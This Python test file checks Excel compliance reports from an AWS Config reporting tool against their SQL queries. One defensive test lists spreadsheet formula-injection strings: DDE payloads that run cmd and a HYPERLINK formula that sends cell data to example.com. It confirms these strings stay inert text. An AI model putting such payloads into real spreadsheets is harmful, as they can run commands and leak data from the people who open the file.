"""Reads every cell of the workbooks that the unit test report/test_report wrote and compares it with
the queries that they claim to come from, and those with the history's own tables.

The workbooks are in the build folder: CONFHOUSE_BUILD_DIR, or the newest build/*/ that has them.
"""

import datetime
import glob
import os
import re
import shutil
import sqlite3
import xml.dom.minidom
import zipfile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
DASH = "\u2013"
GREEN_FROM, YELLOW_FROM = 0.95, 0.80

# file: (its run, rows that fit in a sheet)
BOOKS = {
    "report-fixture.xlsx": ("2026-11-22", None),
    "report-fixture-parts.xlsx": ("2026-11-22", 6),
    "report-fixture-early.xlsx": ("2026-11-08", None),
    "report-fixture-first.xlsx": ("2026-10-18", None),
}

WORDS = {
    "prod": "Prod", "nonprod": "Non-Prod", "unclassified": "Unclassified",
    "COMPLIANT": "Compliant", "NON_COMPLIANT": "Non-compliant", "NOT_APPLICABLE": "Not applicable",
    "new": "New", "reopened": "Reopened", "resolved": "Resolved", "gone": "No longer reported",
    "scanned": "Read", "denied": "Access denied", "failed": "Failed",
    "missing": "Nothing received", "skipped": "Left out on purpose",
    "insufficient_data": "No data yet", "on": "On", "stopped": "Stopped", "none": "Off",
    "rules_failed": "Rules not read", "recorder_off": "AWS Config is off",
    "shards_refused": "Damaged result files",
}


def text(value, row):
    """As a cell can hold it: see src/report/cell_text.h."""
    if value is None:
        return None
    value = re.sub("\r\n?", "\n", value)
    value = re.sub("[\x00-\x08\x0b-\x1f\ufffe\uffff]", "\ufffd", value)
    if len(value.encode("utf-16-le")) // 2 > 32767:
        value = value[:32760] + "\u2026 [cut]"
    return re.sub("\ufffd+", "\ufffd", value)


def word(value, row):
    return WORDS.get(value, value)


def count(value, row):
    return DASH if value is None else value


def plain(value, row):
    return value


def ratio(value, row):
    if value is None:
        return {"none": "not read", "out": "left out"}.get(row.get("reading"), DASH)
    return pytest.approx(value, abs=1e-12)


def gap(value, row):
    return None if value is None else pytest.approx(value, abs=1e-12)


def points(value, row):
    return DASH if value is None else pytest.approx(value * 100, abs=1e-9)


def date(value, row):
    return "never" if value is None else datetime.datetime.strptime(value, "%Y-%m-%d")


def status(value, row):
    if value is None:
        return {"none": "\u25cb Not read", "out": "Left out on purpose"}.get(
            row.get("reading"), "Nothing to rate")
    partly = ", partly read" if row.get("reading") == "part" else ""
    if value >= GREEN_FROM:
        return "\u25cf On target" + partly
    return ("\u25b2 Watch" if value >= YELLOW_FROM else "\u25bc Act") + partly


def or_(absent, show):
    return lambda value, row: absent if value is None else show(value, row)


# sheet: (query, [(header, column, how it is shown)], whether a total stands below)
SHEETS = {
    "Rules": ("sheet_rules", [
        ("Rule", "rule_group", text), ("Prod ratio", "prod_ratio", ratio),
        ("Non-Prod ratio", "nonprod_ratio", ratio),
        ("Unclassified ratio", "unclassified_ratio", ratio), ("Compliant", "compliant", count),
        ("Non-compliant", "non_compliant", count), ("Not applicable", "not_applicable", count),
        ("Ratio", "ratio", ratio), ("Change since last run", "change", points),
        ("Status", "ratio", status), ("Scopes where not read", "failed", count),
        ("Scopes with no data yet", "no_data", count)], True),
    "Accounts": ("sheet_accounts", [
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Regions", "scopes_wanted", count),
        ("Regions read", "scopes_scanned", count), ("Compliant", "compliant", count),
        ("Non-compliant", "non_compliant", count), ("Not applicable", "not_applicable", count),
        ("Ratio", "ratio", ratio), ("Change since last run", "change", points),
        ("Status", "ratio", status), ("New findings", "new_findings", count),
        ("Resolved findings", "resolved_findings", count)], True),
    "Non-compliant": ("sheet_noncompliant", [
        ("Environment", "environment", word), ("Account name", "account_name", text),
        ("Account ID", "account_id", text), ("Region", "region", text),
        ("Rule", "rule_group", text), ("Resource type", "resource_type", text),
        ("Resource ID", "resource_id", text), ("Why", "annotation", text),
        ("Owner", "owner", or_("no owner", text)), ("First seen", "since", date),
        ("Days open", "age_days", plain), ("Runs open", "age_runs", plain),
        ("Rule name in AWS", "rule_name", text)], False),
    "Changes": ("sheet_changes", [
        ("Change", "change", word), ("Environment", "environment", word),
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Region", "region", text), ("Rule", "rule_group", text),
        ("Resource type", "resource_type", text), ("Resource ID", "resource_id", text),
        ("Before", "compliance_before", or_("not reported", word)),
        ("Now", "compliance_after", or_("not reported", word)),
        ("Rule name in AWS", "rule_name", text)], False),
    "Trend": ("sheet_trend", [
        ("Date", "scan_date", date), ("Run", "group_id", text), ("Prod ratio", "prod_ratio", gap),
        ("Non-Prod ratio", "nonprod_ratio", gap),
        ("Unclassified ratio", "unclassified_ratio", gap),
        ("Open findings", "open_findings", plain), ("New findings", "new_findings", plain),
        ("Resolved findings", "resolved_findings", plain), ("Scopes", "scopes_planned", plain),
        ("Scopes read", "scopes_scanned", plain), ("Remark", "note", text)], False),
    "Coverage": ("sheet_coverage", [
        ("Outcome", "outcome", word), ("Account name", "account_name", text),
        ("Account ID", "account_id", text), ("Environment", "environment", word),
        ("Region", "region", text), ("Why", "message", text), ("Error code", "error_code", text),
        ("What to do", "what_to_do", text),
        ("AWS Config recorder", "recorder", or_("not known", word)), ("Rules", "rules", count),
        ("Rules not read", "rules_failed", count), ("Evaluations", "evaluations", count),
        ("Last read", "last_scanned", date)], False),
    "Rules not read": ("sheet_rules_unread", [
        ("Outcome", "outcome", word), ("Rule", "rule_group", text),
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Region", "region", text),
        ("Error code", "error_code", text), ("Why", "message", text),
        ("Rule name in AWS", "rule_name", text)], False),
}

# section of the Summary: (query, columns, whether a total stands below)
SECTIONS = {
    "Compliance by environment": ("sheet_environments", [
        ("Environment", "environment", word), ("Accounts", "accounts", count),
        ("Compliant", "compliant", count), ("Non-compliant", "non_compliant", count),
        ("Not applicable", "not_applicable", count), ("Ratio", "ratio", ratio),
        ("Change since last run", "change", points), ("Status", "ratio", status)], True),
    "Findings": ("sheet_environments", [
        ("Environment", "environment", word), ("Open now", "non_compliant", count),
        ("New since last run", "new_findings", count),
        ("Resolved since", "resolved_findings", count),
        ("No longer reported", "gone_findings", count)], True),
    "Rules with the most open findings": ("sheet_attention_rules", [
        ("Rule", "rule_group", text), ("Open in Prod", "prod", count),
        ("Open in Non-Prod", "nonprod", count), ("Open in Unclassified", "unclassified", count),
        ("Open in all", "non_compliant", count), ("New since last run", "new_findings", count),
        ("Ratio", "ratio", ratio), ("Status", "ratio", status)], False),
    "Accounts with the most open findings": ("sheet_attention_accounts", [
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Open findings", "non_compliant", count),
        ("New since last run", "new_findings", count),
        ("Resolved since", "resolved_findings", count), ("Ratio", "ratio", ratio),
        ("Status", "ratio", status)], False),
    "What is missing": ("sheet_missing", [
        ("What", "missing", word), ("How many", "items", count), ("Accounts", "accounts", count),
        ("For example", "example", text), ("What to do", "what_to_do", text)], False),
}


def build_dir():
    named = os.environ.get("CONFHOUSE_BUILD_DIR")
    if named:
        return named
    found = glob.glob(os.path.join(ROOT, "build", "*", "report-fixture.xlsx"))
    assert found, "build with CONFHOUSE_TESTS=ON and run the unit tests first"
    return os.path.dirname(max(found, key=os.path.getmtime))


def open_history(path):
    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    db.text_factory = lambda raw: raw.decode("utf-8", "replace")
    db.row_factory = sqlite3.Row
    return db


def query(db, name, group_id):
    with open(os.path.join(ROOT, "queries", name + ".sql"), encoding="utf-8") as file:
        return [dict(row) for row in db.execute(file.read(), {"group_id": group_id})]


def value_of(cell):
    if isinstance(cell.value, str):
        return re.sub("\ufffd+", "\ufffd", unescape(cell.value))
    return cell.value


@pytest.fixture(scope="module")
def history():
    with open_history(os.path.join(build_dir(), "report-fixture.db")) as db:
        yield db


class Report:
    def __init__(self, name):
        self.group_id, self.limit = BOOKS[name]
        self.path = os.path.join(build_dir(), name)
        self.book = openpyxl.load_workbook(self.path)

    def parts(self, title):
        return [self.book[name] for name in self.book.sheetnames
                if name == title or re.fullmatch(re.escape(title) + r" \(\d+\)", name)]


@pytest.fixture(scope="module", params=BOOKS)
def report(request):
    return Report(request.param)


@pytest.fixture(scope="module")
def newest():
    return Report("report-fixture.xlsx")


def is_note(row):
    """A line of text in the first cell alone."""
    return row[0].font.i and isinstance(row[0].value, str) and all(c.value is None for c in row[1:])


def test_the_sheets_stand_in_their_order_and_summary_is_open(report):
    titles = [name for name in report.book.sheetnames if not name.endswith(")")]
    assert titles == ["Summary", *SHEETS, "About"]
    assert report.book.active.title == "Summary"
    assert report.book.properties.creator.startswith("confhouse")
    assert report.group_id in report.book.properties.title + report.book.properties.subject


@pytest.mark.parametrize("title", SHEETS)
def test_every_cell_of_a_sheet_is_what_its_query_says(report, history, title):
    name, columns, has_total = SHEETS[title]
    expected = query(history, name, report.group_id)
    rows = []
    parts = report.parts(title)
    for index, sheet in enumerate(parts):
        assert [cell.value for cell in sheet[2]][:len(columns)] == [c[0] for c in columns]
        assert report.limit is None or sheet.max_row <= report.limit
        body = [row[:len(columns)] for row in sheet.iter_rows(min_row=3)]
        if index > 0:
            assert f"\u201c{parts[index - 1].title}\u201d" in sheet["A1"].value
        if index + 1 < len(parts):
            assert is_note(body[-1]) and f"\u201c{parts[index + 1].title}\u201d" in body.pop()[0].value
        rows += body
    if not expected:
        assert len(rows) == 1 and is_note(rows[0])
        return
    if has_total:
        check_total(rows.pop(), columns, expected)
    assert len(rows) == len(expected)
    for cells, row in zip(rows, expected):
        for cell, (header, column, show) in zip(cells, columns):
            assert value_of(cell) == show(row[column], row), f"{header} in {cell.coordinate}"


def check_total(cells, columns, rows):
    assert cells[0].value in ("Total", "All")
    for cell, (header, column, show) in zip(cells[1:], columns[1:]):
        values = [row[column] for row in rows if row[column] is not None]
        if header == "Ratio":
            compliant = sum(row["compliant"] or 0 for row in rows)
            rated = compliant + sum(row["non_compliant"] or 0 for row in rows)
            assert cell.value == pytest.approx(compliant / rated)
        elif show is count and column not in ("failed", "no_data"):
            assert cell.value == (sum(values) if values else None), header
        else:
            assert cell.value is None, header


@pytest.mark.parametrize("title", SECTIONS)
def test_every_figure_of_the_summary_is_what_its_query_says(report, history, title):
    name, columns, has_total = SECTIONS[title]
    sheet = report.book["Summary"]
    start = next(row for row in range(1, sheet.max_row) if sheet.cell(row, 2).value == title)
    expected = query(history, name, report.group_id)
    if not expected:
        assert sheet.cell(start + 1, 2).font.i
        return

    def cells_of(row):  # without the hidden cells of those that span several
        return [cell for cell in sheet[row][1:]
                if not isinstance(cell, openpyxl.cell.cell.MergedCell)][:len(columns)]

    assert [cell.value for cell in cells_of(start + 1)] == [column[0] for column in columns]
    for index, row in enumerate(expected):
        for cell, (header, column, show) in zip(cells_of(start + 2 + index), columns):
            assert value_of(cell) == show(row[column], row), f"{header} in {cell.coordinate}"
    if has_total:
        check_total(cells_of(start + 2 + len(expected)), columns, expected)


def test_the_summary_says_in_plain_words_what_was_read(newest):
    lines = [newest.book["Summary"].cell(row, 2).value for row in range(1, 5)]
    assert "2026-11-22" in lines[1] and "2026-11-15" in lines[1]
    assert lines[2] == (
        "\u25b2 7 of 11 scopes (accounts by region) were read; 1 account could not be read at all; "
        "8 rules could not be read; 2 scopes have AWS Config switched off; 1 result file was "
        "damaged; 3 scopes were left out on purpose.")


def test_the_first_run_is_complete_and_has_nothing_to_compare_with():
    sheet = Report("report-fixture-first.xlsx").book["Summary"]
    assert "nothing to compare" in sheet["B2"].value
    assert sheet["B3"].value == ("\u25cf All 12 scopes (accounts by region) were read; 2 scopes were "
                                 "left out on purpose.")


def test_the_ratios_are_those_of_the_intervals(newest, history):
    """The workbook against the evaluations themselves, not against the counts made of them."""
    sheet = newest.book["Summary"]
    start = next(row for row in range(1, 20) if sheet.cell(row, 2).value == "Environment")
    for offset, environment in enumerate(("prod", "nonprod", "unclassified"), 1):
        compliant, broken = history.execute(
            """SELECT sum(i.compliance = 0), sum(i.compliance = 1)
               FROM interval i JOIN rule u USING (rule_key) JOIN scope s USING (scope_key)
               JOIN run r ON r.group_id = '2026-11-22'
               JOIN run_scope k ON k.run_no = r.run_no AND k.scope_key = s.scope_key
               JOIN run_account a ON a.run_no = r.run_no AND a.account_key = s.account_key
               WHERE i.mode = 0 AND i.began <= r.run_no AND coalesce(i.ended > r.run_no, 1)
                 AND k.outcome = 'scanned' AND a.environment = ?
                 AND NOT EXISTS (SELECT 1 FROM run_rule x WHERE x.run_no = r.run_no
                                 AND x.rule_key = u.rule_key AND x.outcome = 'failed')""",
            (environment,)).fetchone()
        row = start + offset
        assert sheet.cell(row, 4).value == compliant
        assert sheet.cell(row, 5).value == broken
        assert sheet.cell(row, 7).value == pytest.approx(compliant / (compliant + broken))


def test_the_sheets_agree_with_each_other(report, history):
    open_by_sheet = {
        "Summary": sum(row["non_compliant"] or 0
                       for row in query(history, "sheet_environments", report.group_id)),
        "Rules": sum(row["non_compliant"] or 0
                     for row in query(history, "sheet_rules", report.group_id)),
        "Accounts": sum(row["non_compliant"] or 0
                        for row in query(history, "sheet_accounts", report.group_id)),
        "Non-compliant": len(query(history, "sheet_noncompliant", report.group_id)),
        "Trend": query(history, "sheet_trend", report.group_id)[-1]["open_findings"],
    }
    assert len(set(open_by_sheet.values())) == 1, open_by_sheet
    changes = [row["change"] for row in query(history, "sheet_changes", report.group_id)]
    totals = query(history, "sheet_environments", report.group_id)
    for column, kinds in (("new_findings", ("new", "reopened")), ("resolved_findings", ("resolved",)),
                          ("gone_findings", ("gone",))):
        assert sum(row[column] or 0 for row in totals) == sum(c in kinds for c in changes), column


def cut_after(source, target, run):
    """The history as it was when that run was the newest."""
    shutil.copy(source, target)
    db = sqlite3.connect(target)
    (run_no,) = db.execute("SELECT run_no FROM run WHERE group_id = ?", (run,)).fetchone()
    for table, column in (("interval", "began"), ("rule_tag", "began")):
        db.execute(f"DELETE FROM {table} WHERE {column} > ?", (run_no,))
        db.execute(f"UPDATE {table} SET ended = NULL WHERE ended > ?", (run_no,))
    for table in ("run_shard", "refused_shard", "run_account", "run_scope", "run_rule",
                  "count_environment", "count_rule", "count_account", "run"):
        db.execute(f"DELETE FROM {table} WHERE run_no > ?", (run_no,))
    db.commit()
    db.close()


@pytest.mark.parametrize("run", ["2026-10-18", "2026-11-08", "2026-11-15"])
def test_an_older_run_is_reported_as_it_was_then(tmp_path, history, run):
    cut_after(os.path.join(build_dir(), "report-fixture.db"), tmp_path / "then.db", run)
    with open_history(tmp_path / "then.db") as then:
        files = glob.glob(os.path.join(ROOT, "queries", "sheet_*.sql"))
        for name in sorted(os.path.basename(path)[:-4] for path in files):
            assert query(history, name, run) == query(then, name, run), name
            assert query(then, name, None) == query(then, name, run), name


def test_texts_stay_texts(report):
    for sheet in report.book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                assert cell.hyperlink is None
    with zipfile.ZipFile(report.path) as package:
        assert package.testzip() is None
        for name in package.namelist():
            raw = package.read(name)
            xml.dom.minidom.parseString(raw)
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in raw and b"<f " not in raw and b"<hyperlink" not in raw


def test_harmful_texts_arrive_as_they_are():
    texts = {value_of(cell) for name in BOOKS for sheet in Report(name).parts("Non-compliant")
             for row in sheet.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)}
    assert {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1\t@SUM(A1:A9)", "-1+1",
            "+identity team", '=HYPERLINK("http://example.com/?x="&A1,"pay here")',
            "\t=1+1\nsecond line", "n\u00e4me\ufffd \ufffd(\ufffd", "a\ufffdb\ufffdc\ufffdd",
            '<b>&amp;"quoted"</b> _x0041_ \U0001f680\u00e9'} <= texts
    assert any(text_.endswith("w\u2026 [cut]") and len(text_) == 32767 for text_ in texts)


def test_what_is_unknown_is_shown_as_unknown(newest):
    sheet = newest.book["Accounts"]
    header = [cell.value for cell in sheet[2]]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "data-lake-prod")
    cells = dict(zip(header, row))
    assert cells["Ratio"].value == "not read"
    assert cells["Status"].value == "\u25cb Not read"
    assert cells["Compliant"].value == DASH
    assert cells["Ratio"].fill.bgColor.rgb != cells["Account name"].fill.bgColor.rgb or \
        cells["Ratio"].font.i
    rules = newest.book["Rules"]
    unread = next(r for r in rules.iter_rows(min_row=3) if r[0].value == "ec2-instance-no-public-ip")
    assert unread[7].value == "not read"


def test_ratios_are_coloured_by_rules_that_texts_do_not_match(report):
    for title in ("Summary", "Rules", "Accounts", "Trend"):
        sheet = report.parts(title)[0]
        rules = [rule for found in sheet.conditional_formatting for rule in found.rules]
        assert rules, title
        assert all("ISNUMBER" in rule.formula[0] for rule in rules)
        formulas = " ".join(rule.formula[0] for rule in rules)
        assert ">=0.950000" in formulas and ">=0.800000" in formulas


def test_a_denied_scope_says_why_and_what_to_do(newest):
    sheet = newest.book["Coverage"]
    first = [cell.value for cell in sheet[3]]
    assert first[0] == "Access denied" and first[1] == "data-lake-prod"
    assert "sts:AssumeRole" in first[5] and first[6] == "AccessDenied"
    assert "scanning role" in first[7]


def test_numbers_look_like_what_they_are(newest):
    formats = {
        "Accounts": {"Ratio": "0.0%", "Compliant": "#,##0"},
        "Non-compliant": {"First seen": "yyyy-mm-dd", "Days open": "#,##0"},
        "Trend": {"Date": "yyyy-mm-dd", "Prod ratio": "0.0%"},
    }
    for title, columns in formats.items():
        sheet = newest.book[title]
        header = [cell.value for cell in sheet[2]]
        for name, expected in columns.items():
            assert sheet.cell(4, header.index(name) + 1).number_format == expected, name
    change = newest.book["Accounts"].cell(4, 10)
    assert isinstance(change.value, float) and "pp" in change.number_format


def test_sheets_can_be_read_on_screen_and_paper(report, history):
    for title in SHEETS:
        for sheet in report.parts(title):
            assert sheet.freeze_panes == "A3"
            assert sheet.print_title_rows in ("1:2", "$1:$2")
            assert sheet.page_setup.orientation == "landscape"
            assert sheet.sheet_properties.pageSetUpPr.fitToPage
            assert sheet.sheet_properties.tabColor is not None
            if query(history, SHEETS[title][0], report.group_id):
                assert sheet.auto_filter.ref.startswith("A2:")


def charts_of(path):
    with zipfile.ZipFile(path) as package:
        names = sorted(n for n in package.namelist() if n.startswith("xl/charts/chart"))
        return [xml.dom.minidom.parseString(package.read(name)) for name in names]


def test_charts_show_the_trend_with_gaps(newest, history):
    rows = query(history, "sheet_trend", newest.group_id)
    lines = [chart for chart in charts_of(newest.path) if chart.getElementsByTagName("c:lineChart")]
    assert len(lines) == 2  # on Summary and on Trend
    for chart in lines:
        series = chart.getElementsByTagName("c:ser")
        assert len(series) == 3
        for element, column, letter in zip(
                series, ("prod_ratio", "nonprod_ratio", "unclassified_ratio"), "CDE"):
            values = element.getElementsByTagName("c:val")[0]
            reference = values.getElementsByTagName("c:f")[0].firstChild.data
            assert reference == f"Trend!${letter}$3:${letter}${len(rows) + 2}"
            points_ = {int(p.getAttribute("idx")): float(p.firstChild.firstChild.data)
                       for p in values.getElementsByTagName("c:pt")}
            assert points_ == {i: pytest.approx(row[column]) for i, row in enumerate(rows)
                               if row[column] is not None}
    assert rows[3]["nonprod_ratio"] is None


def test_about_names_the_query_behind_every_sheet(report, history):
    about = [(row[0].value, row[1].value) for row in report.book["About"].iter_rows()]
    for title, (name, _, _) in SHEETS.items():
        line = next(text_ for label, text_ in about if label == title and name + " " in str(text_))
        rows = len(query(history, name, report.group_id))
        assert f" {rows} row" in line and f"confhouse query {name} -p group_id={report.group_id}" in line
    for name, _, _ in SECTIONS.values():
        assert any(label == "Summary" and f"query {name} " in text_ for label, text_ in about if text_)
